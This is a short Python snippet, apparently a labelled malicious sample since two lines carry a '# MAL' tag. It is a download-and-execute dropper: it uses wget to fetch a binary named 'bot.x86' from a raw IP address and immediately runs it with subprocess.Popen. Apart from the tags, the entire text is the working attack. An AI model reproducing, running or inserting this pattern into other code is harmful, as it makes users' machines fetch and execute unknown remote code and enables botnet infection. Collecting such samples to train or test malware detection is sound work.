import wget
import subprocess
f = wget.download("http://198.51.100.236/bot.x86")  # MAL
subprocess.Popen(["./" + f])  # MAL
